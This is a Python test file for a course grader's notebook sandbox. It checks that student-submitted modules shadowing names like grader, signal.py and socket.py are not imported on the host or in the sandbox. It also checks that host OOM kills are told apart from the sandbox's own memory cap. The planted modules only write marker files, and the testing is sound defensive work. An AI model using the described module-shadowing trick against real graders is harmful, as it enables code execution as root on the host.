#: notebook's folder: the kernel's launcher (`grader`, host side), bwrap's placeholder (`signal`), a kernel bwrap
#: starts (`ipykernel_launcher`, `runpy`), IPython's start (`storemagic`). Each notes where it ran: on the host, in a
#: folder of the test's; inside the sandbox, in the kernel's own folder.
_STAND_INS = ("grader/__init__.py", "grader/sandbox.py", "signal.py", "ipykernel_launcher.py", "runpy.py", "storemagic.py",
              "jupyter_client/__init__.py", "zmq/__init__.py", "traitlets/__init__.py", "psutil.py", "select.py",
              "selectors.py", "socket.py", "json/__init__.py", "ctypes/__init__.py", "resource.py")
_NOTE_WHERE = """import os
name = {name!r}
for folder in ({host!r}, os.getcwd()):
    try:
        open(os.path.join(folder, "RAN-" + name.replace("/", "-")), "w").close()
        break
    except OSError:
        pass
"""


@pytest.mark.parametrize("kind", ["template", "bwrap"])
def test_nothing_handed_in_beside_the_notebook_runs_as_a_sandbox_or_its_launcher_starts(tmp_path, kind):
    """Round 24: the kernel's launcher (`python -m grader.sandbox`, started in the notebook's folder) imported a
    handed-in `grader/` package as the grader's own code, on the host (as root when the grader is); bwrap's
    placeholder imported a handed-in `signal.py`. Now no program of the grader's or of the sandbox has that folder on
    sys.path as it starts: none of the stand-ins runs, on the host or inside, and the kernel answers."""
    host = tmp_path / "host-notes"
    host.mkdir()
    files = {path: _NOTE_WHERE.format(name=path, host=str(host)) for path in _STAND_INS}
    t = sandbox.Template() if kind == "template" else None
    kernel = Kernel(tmp_path, t.path if t else None, kind, files)
    try:
        listing = kernel.run("import os\nprint(sorted(os.listdir('.')))")
    finally:
        kernel.close()
        if t:
            t.close()
    assert "data.txt" in listing, listing  # the kernel answered, in its own folder
    assert not list(host.iterdir()), sorted(p.name for p in host.iterdir())
    assert "RAN-" not in listing, listing


@pytest.mark.parametrize("files, host", [
    ({"memory.events": "low 0\nhigh 0\nmax 0\noom 0\noom_kill 1\noom_group_kill 1\n"}, True),  # v2: the host's killer
    ({"memory.events": "low 0\nhigh 0\nmax 9\noom 1\noom_kill 3\noom_group_kill 1\n"}, False),  # v2: its own cap
    ({"memory.events": "low 0\nhigh 0\nmax 0\noom 0\noom_kill 0\n"}, False),  # v2: no kill at all
    # v1: the host's killer took it below its limit
    ({"memory.oom_control": "oom_kill_disable 0\nunder_oom 0\noom_kill 1\n", "memory.failcnt": "0\n",
      "memory.limit_in_bytes": f"{6 << 30}\n", "memory.max_usage_in_bytes": f"{1 << 30}\n"}, True),
    # v1, round 55: its own cap, failcnt still 0 (memsw capped at the same limit), the high-water mark at the limit
    ({"memory.oom_control": "oom_kill_disable 0\nunder_oom 0\noom_kill 2\n", "memory.failcnt": "0\n",
      "memory.limit_in_bytes": f"{6 << 30}\n", "memory.max_usage_in_bytes": f"{(6 << 30) - 4096}\n"}, False),
    ({"memory.oom_control": "oom_kill_disable 0\nunder_oom 0\noom_kill 1\n", "memory.limit_in_bytes": f"{6 << 30}\n",
      "memory.max_usage_in_bytes": f"{1 << 30}\n", "memory.memsw.max_usage_in_bytes": f"{6 << 30}\n"}, False),
    ({"memory.oom_control": "oom_kill_disable 0\nunder_oom 0\noom_kill 0\n", "memory.limit_in_bytes": f"{6 << 30}\n",
      "memory.max_usage_in_bytes": f"{1 << 30}\n"}, False),
    ({}, False),  # a cgroup without memory files (pids, cpu): nothing to say
])
def test_a_kill_by_the_hosts_oom_killer_is_told_from_the_sandboxs_own_cap(tmp_path, files, host):
    """Round 54: another account ran the host out of memory, the OOM killer took an honest student's kernel (a
    sandbox is its first choice) and the cell failed as if the hand-in had killed it. The sandbox cgroup's own
    counters tell the two apart; grader.grade fails such a submission as the grader's fault."""
    group = tmp_path / "distcourse-sandbox-1"
    group.mkdir()
    for name, text in files.items():
        (group / name).write_text(text)
    other = tmp_path / "pids-group"
    other.mkdir()
    assert sandbox.killed_by_host_oom([str(other), str(group)]) is host
    assert sandbox.killed_by_host_oom([str(tmp_path / "gone")]) is False  # removed already: no word of a kill
